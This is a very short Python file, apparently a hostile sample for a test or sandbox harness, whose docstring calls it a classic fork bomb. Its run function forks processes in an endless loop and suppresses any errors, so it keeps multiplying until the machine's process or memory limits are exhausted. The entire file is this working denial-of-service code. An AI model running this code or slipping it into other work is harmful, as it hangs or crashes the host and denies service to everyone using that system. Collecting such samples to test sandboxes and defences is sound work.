"""Hostile: a classic fork bomb; every process forks forever and ignores failures."""

import contextlib
import os


def run(inputs, params):
    while True:
        with contextlib.suppress(OSError):
            os.fork()
